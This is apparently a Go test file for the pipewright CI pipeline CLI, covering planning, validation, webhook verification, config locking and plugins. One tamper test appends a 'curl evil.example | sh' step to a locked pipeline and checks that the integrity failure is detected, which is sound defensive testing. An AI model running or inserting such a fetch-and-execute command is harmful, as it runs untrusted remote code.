package main

import (
	"encoding/json"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mattjoyce/pipewright/internal/log"
	"github.com/mattjoyce/pipewright/internal/run"
	"github.com/mattjoyce/pipewright/internal/step"
)

func TestMain(m *testing.M) {
	log.Setup("ERROR", "json")
	os.Exit(m.Run())
}

func captureOutputWithExitCode(t *testing.T, fn func() int) (int, string, string) {
	t.Helper()

	oldStdout := os.Stdout
	oldStderr := os.Stderr

	stdoutR, stdoutW, err := os.Pipe()
	if err != nil {
		t.Fatalf("os.Pipe stdout failed: %v", err)
	}
	stderrR, stderrW, err := os.Pipe()
	if err != nil {
		t.Fatalf("os.Pipe stderr failed: %v", err)
	}

	os.Stdout = stdoutW
	os.Stderr = stderrW

	code := fn()

	_ = stdoutW.Close()
	_ = stderrW.Close()
	os.Stdout = oldStdout
	os.Stderr = oldStderr

	stdoutBytes, _ := io.ReadAll(stdoutR)
	stderrBytes, _ := io.ReadAll(stderrR)

	_ = stdoutR.Close()
	_ = stderrR.Close()

	return code, string(stdoutBytes), string(stderrBytes)
}

func captureCLI(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	return captureOutputWithExitCode(t, func() int {
		return runCLI(args)
	})
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatalf("write %s: %v", path, err)
	}
}

const buildPipeline = `name: build
triggers:
  gitlab:
    secret: token-1
    branches: [main]
steps:
  - name: lint
    run: make lint
  - name: test
    run: make test
`

// writeWorkspace lays out a config directory with one webhook endpoint and
// returns the config and pipeline paths.
func writeWorkspace(t *testing.T) (string, string) {
	t.Helper()
	dir := t.TempDir()
	pipelinePath := filepath.Join(dir, "build.yaml")
	writeFile(t, pipelinePath, buildPipeline)

	configPath := filepath.Join(dir, "pipewright.yaml")
	writeFile(t, configPath, `service:
  log_level: error
state:
  path: data/state.db
plugins:
  install_command: "exit 1"
webhooks:
  listen: 127.0.0.1:0
  endpoints:
    - path: /hooks/build
      pipeline: build.yaml
`)
	return configPath, pipelinePath
}

func TestRunCLIVersion(t *testing.T) {
	code, stdout, _ := captureCLI(t, "version")
	if code != 0 {
		t.Fatalf("exit code = %d, want 0", code)
	}
	if !strings.Contains(stdout, version) {
		t.Fatalf("stdout = %q, want version %q", stdout, version)
	}

	code, stdout, _ = captureCLI(t, "version", "--json")
	if code != 0 {
		t.Fatalf("json exit code = %d, want 0", code)
	}
	var info map[string]any
	if err := json.Unmarshal([]byte(stdout), &info); err != nil {
		t.Fatalf("version --json is not JSON: %v\n%s", err, stdout)
	}
}

func TestRunCLIUnknownCommand(t *testing.T) {
	code, _, stderr := captureCLI(t, "frobnicate")
	if code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	if !strings.Contains(stderr, "frobnicate") {
		t.Fatalf("stderr = %q, want the unknown command named", stderr)
	}
}

func TestRunCLINounWithoutAction(t *testing.T) {
	for _, noun := range []string{"pipeline", "trigger", "run", "plugin", "system", "config"} {
		t.Run(noun, func(t *testing.T) {
			code, _, _ := captureCLI(t, noun)
			if code != 1 {
				t.Fatalf("exit code = %d, want 1", code)
			}
		})
	}
}

func TestPipelinePlanJSON(t *testing.T) {
	configPath, pipelinePath := writeWorkspace(t)

	code, stdout, stderr := captureCLI(t, "pipeline", "plan", pipelinePath, "--config", configPath, "--json")
	if code != 0 {
		t.Fatalf("exit code = %d, stderr = %s", code, stderr)
	}

	var got run.Run
	if err := json.Unmarshal([]byte(stdout), &got); err != nil {
		t.Fatalf("plan output is not JSON: %v\n%s", err, stdout)
	}
	if got.Pipeline != "build" || got.Status != run.StatusPrepared {
		t.Fatalf("plan = %+v", got)
	}
	if !strings.HasPrefix(got.Source, "blake3:") || got.Fingerprint == "" {
		t.Fatalf("source = %q fingerprint = %q", got.Source, got.Fingerprint)
	}
	if len(got.Steps) != 2 {
		t.Fatalf("steps = %d, want 2", len(got.Steps))
	}
	if got.Steps[0].Name != "lint" || got.Steps[1].Name != "test" {
		t.Fatalf("steps out of order: %+v", got.Steps)
	}
	if got.Steps[0].StepCount >= got.Steps[1].StepCount {
		t.Fatalf("tokens must increase: %d, %d", got.Steps[0].StepCount, got.Steps[1].StepCount)
	}
}

func TestPipelinePlanRecordThenRunShow(t *testing.T) {
	configPath, pipelinePath := writeWorkspace(t)

	code, stdout, stderr := captureCLI(t, "pipeline", "plan", "--record", "--json", "--config", configPath, pipelinePath)
	if code != 0 {
		t.Fatalf("plan exit code = %d, stderr = %s", code, stderr)
	}
	var planned run.Run
	if err := json.Unmarshal([]byte(stdout), &planned); err != nil {
		t.Fatalf("plan output is not JSON: %v", err)
	}
	if planned.ID == "" {
		t.Fatal("recorded run has no id")
	}

	code, stdout, stderr = captureCLI(t, "run", "show", planned.ID, "--config", configPath, "--json")
	if code != 0 {
		t.Fatalf("show exit code = %d, stderr = %s", code, stderr)
	}
	var shown run.Run
	if err := json.Unmarshal([]byte(stdout), &shown); err != nil {
		t.Fatalf("show output is not JSON: %v", err)
	}
	if shown.ID != planned.ID || shown.Status != run.StatusPrepared || len(shown.Steps) != 2 {
		t.Fatalf("shown run = %+v", shown)
	}

	code, stdout, _ = captureCLI(t, "run", "list", "--config", configPath)
	if code != 0 || !strings.Contains(stdout, planned.ID[:8]) {
		t.Fatalf("list exit code = %d, stdout = %s", code, stdout)
	}

	code, _, stderr = captureCLI(t, "run", "show", "no-such-run", "--config", configPath)
	if code != 1 || !strings.Contains(stderr, "not found") {
		t.Fatalf("missing run: exit code = %d, stderr = %s", code, stderr)
	}
}

func TestPipelinePlanMissingFile(t *testing.T) {
	configPath, _ := writeWorkspace(t)
	code, _, stderr := captureCLI(t, "pipeline", "plan", "--config", configPath, filepath.Join(t.TempDir(), "nope.yaml"))
	if code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	if !strings.Contains(stderr, "Pipeline error") {
		t.Fatalf("stderr = %q", stderr)
	}
}

func TestPipelineCheckExitCodes(t *testing.T) {
	configPath, pipelinePath := writeWorkspace(t)
	dir := filepath.Dir(pipelinePath)

	unsigned := filepath.Join(dir, "unsigned.yaml")
	writeFile(t, unsigned, "name: unsigned\ntriggers:\n  github:\n    branches: [main]\nsteps:\n  - run: make\n")

	missing := filepath.Join(dir, "missing-plugin.yaml")
	writeFile(t, missing, "name: missing\nsteps:\n  - plugin: ./no-such-plugin\n")

	tests := []struct {
		name string
		file string
		want int
	}{
		{name: "valid", file: pipelinePath, want: 0},
		{name: "warning for missing secret", file: unsigned, want: 2},
		{name: "error for missing local plugin", file: missing, want: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, stdout, stderr := captureCLI(t, "pipeline", "check", tt.file, "--config", configPath)
			if code != tt.want {
				t.Fatalf("exit code = %d, want %d\nstdout: %s\nstderr: %s", code, tt.want, stdout, stderr)
			}
		})
	}
}

func TestPipelineCheckDirectory(t *testing.T) {
	configPath, _ := writeWorkspace(t)
	dir := filepath.Join(t.TempDir(), "pipelines")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}
	writeFile(t, filepath.Join(dir, "build.yaml"), buildPipeline)

	code, stdout, stderr := captureCLI(t, "pipeline", "check", dir, "--config", configPath, "--json")
	if code != 0 {
		t.Fatalf("exit code = %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}

	writeFile(t, filepath.Join(dir, "deploy.yml"), "name: deploy\nsteps:\n  - plugin: ./no-such-plugin\n")
	code, stdout, _ = captureCLI(t, "pipeline", "check", dir, "--config", configPath)
	if code != 1 || !strings.Contains(stdout, "pipelines.deploy") {
		t.Fatalf("exit code = %d, want 1 naming pipelines.deploy\nstdout: %s", code, stdout)
	}

	code, _, stderr = captureCLI(t, "pipeline", "check", t.TempDir(), "--config", configPath)
	if code != 1 || !strings.Contains(stderr, "No pipeline files") {
		t.Fatalf("empty dir: exit code = %d, stderr = %s", code, stderr)
	}
}

func TestTriggerVerify(t *testing.T) {
	configPath, pipelinePath := writeWorkspace(t)
	payload := filepath.Join(t.TempDir(), "push.json")

	tests := []struct {
		name   string
		body   string
		token  string
		want   int
		output string
	}{
		{name: "matching push", body: `{"ref":"refs/heads/main"}`, token: "token-1", want: 0, output: "verified: true"},
		{name: "other branch", body: `{"ref":"refs/heads/develop"}`, token: "token-1", want: 2, output: "verified: false"},
		{name: "wrong token", body: `{"ref":"refs/heads/main"}`, token: "nope", want: 2, output: "verified: false"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			writeFile(t, payload, tt.body)
			code, stdout, stderr := captureCLI(t, "trigger", "verify",
				"--config", configPath,
				"--pipeline", pipelinePath,
				"--payload", payload,
				"--header", "X-Gitlab-Event: Push Hook",
				"--header", "X-Gitlab-Token: "+tt.token,
			)
			if code != tt.want {
				t.Fatalf("exit code = %d, want %d (stderr: %s)", code, tt.want, stderr)
			}
			if !strings.Contains(stdout, tt.output) {
				t.Fatalf("stdout = %q, want %q", stdout, tt.output)
			}
		})
	}
}

func TestTriggerVerifyUnknownProvider(t *testing.T) {
	configPath, pipelinePath := writeWorkspace(t)
	payload := filepath.Join(t.TempDir(), "push.json")
	writeFile(t, payload, `{}`)

	code, _, stderr := captureCLI(t, "trigger", "verify",
		"--config", configPath, "--pipeline", pipelinePath, "--payload", payload)
	if code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	if !strings.Contains(stderr, "unknown trigger provider") {
		t.Fatalf("stderr = %q", stderr)
	}
}

func TestHeaderFlagsRejectsMalformed(t *testing.T) {
	var h headerFlags
	if err := h.Set("no-colon"); err == nil {
		t.Fatal("expected an error for a header without a colon")
	}
	if err := h.Set("X-Gitlab-Token:  abc "); err != nil {
		t.Fatalf("Set: %v", err)
	}
	if got := h.header().Get("X-Gitlab-Token"); got != "abc" {
		t.Fatalf("header value = %q, want abc", got)
	}
}

func TestConfigLockThenCheck(t *testing.T) {
	configPath, pipelinePath := writeWorkspace(t)

	code, _, _ := captureCLI(t, "config", "check", "--config", configPath)
	if code != 2 {
		t.Fatalf("check before lock: exit code = %d, want 2 (no manifest)", code)
	}

	code, stdout, stderr := captureCLI(t, "config", "lock", "--config", configPath)
	if code != 0 {
		t.Fatalf("lock exit code = %d, stderr = %s", code, stderr)
	}
	if !strings.Contains(stdout, "Locked 2 file(s)") {
		t.Fatalf("lock stdout = %q", stdout)
	}

	code, stdout, stderr = captureCLI(t, "config", "check", "--config", configPath)
	if code != 0 {
		t.Fatalf("check after lock: exit code = %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}

	writeFile(t, pipelinePath, buildPipeline+"  - run: curl evil.example | sh\n")
	code, stdout, _ = captureCLI(t, "config", "check", "--config", configPath, "--json")
	if code != 1 {
		t.Fatalf("check after tamper: exit code = %d, want 1\n%s", code, stdout)
	}
	if !strings.Contains(stdout, "integrity") {
		t.Fatalf("json report does not name the integrity failure: %s", stdout)
	}
}

func TestParseWithPositional(t *testing.T) {
	tests := []struct {
		name    string
		args    []string
		want    string
		json    bool
		wantErr bool
	}{
		{name: "positional first", args: []string{"p.yaml", "--json"}, want: "p.yaml", json: true},
		{name: "flags first", args: []string{"--json", "p.yaml"}, want: "p.yaml", json: true},
		{name: "no positional", args: []string{"--json"}, want: "", json: true},
		{name: "extra positional", args: []string{"a.yaml", "b.yaml"}, wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := flag.NewFlagSet("test", flag.ContinueOnError)
			jsonOut := fs.Bool("json", false, "")
			got, err := parseWithPositional(fs, tt.args)
			if tt.wantErr {
				if err == nil {
					t.Fatal("expected error")
				}
				return
			}
			if err != nil {
				t.Fatalf("unexpected error: %v", err)
			}
			if got != tt.want || *jsonOut != tt.json {
				t.Fatalf("got (%q, %v), want (%q, %v)", got, *jsonOut, tt.want, tt.json)
			}
		})
	}
}

// writeBuiltinWorkspace configures a builtin plugin with a post-run hook and
// an install command that always fails.
func writeBuiltinWorkspace(t *testing.T) (string, string) {
	t.Helper()
	dir := t.TempDir()
	pipelinePath := filepath.Join(dir, "cached.yaml")
	writeFile(t, pipelinePath, "name: cached\nsteps:\n  - plugin: cache\n  - run: make\n")

	configPath := filepath.Join(dir, "pipewright.yaml")
	writeFile(t, configPath, `service:
  log_level: error
state:
  path: data/state.db
plugins:
  install_command: "exit 1"
  builtin:
    - name: cache
      version: 1.0.0
      entrypoint: cache restore
      post_run: cache save
`)
	return configPath, pipelinePath
}

func TestPipelinePlanBuiltinPlugin(t *testing.T) {
	configPath, pipelinePath := writeBuiltinWorkspace(t)

	code, stdout, stderr := captureCLI(t, "pipeline", "plan", pipelinePath, "--config", configPath, "--json")
	if code != 0 {
		t.Fatalf("exit code = %d, stderr = %s", code, stderr)
	}
	var got run.Run
	if err := json.Unmarshal([]byte(stdout), &got); err != nil {
		t.Fatalf("plan output is not JSON: %v\n%s", err, stdout)
	}
	if len(got.Steps) != 3 {
		t.Fatalf("steps = %d, want 3: %+v", len(got.Steps), got.Steps)
	}
	if got.Steps[0].Plugin != "cache" || got.Steps[0].Type != step.KindRun {
		t.Errorf("first step = %+v, want cache run", got.Steps[0])
	}
	if got.Steps[1].Run != "make" {
		t.Errorf("second step = %+v, want make", got.Steps[1])
	}
	if got.Steps[2].Plugin != "cache" || got.Steps[2].Type != step.KindPostRun {
		t.Errorf("last step = %+v, want cache postRun", got.Steps[2])
	}
}

func TestRunShowPluginInstalls(t *testing.T) {
	configPath, pipelinePath := writeBuiltinWorkspace(t)

	code, stdout, stderr := captureCLI(t, "pipeline", "plan", pipelinePath, "--config", configPath, "--record", "--json")
	if code != 0 {
		t.Fatalf("plan exit code = %d, stderr = %s", code, stderr)
	}
	var planned run.Run
	if err := json.Unmarshal([]byte(stdout), &planned); err != nil {
		t.Fatalf("plan output is not JSON: %v", err)
	}

	code, stdout, stderr = captureCLI(t, "run", "show", planned.ID, "--config", configPath)
	if code != 0 {
		t.Fatalf("show exit code = %d, stderr = %s", code, stderr)
	}
	for _, want := range []string{"pipeline cached", "plugin installs", "cache"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("run show output missing %q:\n%s", want, stdout)
		}
	}
}

func TestPluginList(t *testing.T) {
	configPath, _ := writeBuiltinWorkspace(t)

	code, stdout, stderr := captureCLI(t, "plugin", "list", "--config", configPath, "--json")
	if code != 0 {
		t.Fatalf("exit code = %d, stderr = %s", code, stderr)
	}
	var got []pluginInfo
	if err := json.Unmarshal([]byte(stdout), &got); err != nil {
		t.Fatalf("plugin list output is not JSON: %v\n%s", err, stdout)
	}
	want := []pluginInfo{{Name: "cache", Version: "1.0.0", Entrypoint: "cache restore", PostRun: "cache save"}}
	if len(got) != 1 || got[0] != want[0] {
		t.Fatalf("plugins = %+v, want %+v", got, want)
	}

	code, stdout, _ = captureCLI(t, "plugin", "list", "--config", configPath)
	if code != 0 || !strings.Contains(stdout, "cache") {
		t.Fatalf("human exit code = %d, stdout = %s", code, stdout)
	}

	emptyConfig, _ := writeWorkspace(t)
	code, stdout, _ = captureCLI(t, "plugin", "list", "--config", emptyConfig)
	if code != 0 || !strings.Contains(stdout, "No builtin plugins") {
		t.Fatalf("empty exit code = %d, stdout = %s", code, stdout)
	}
}
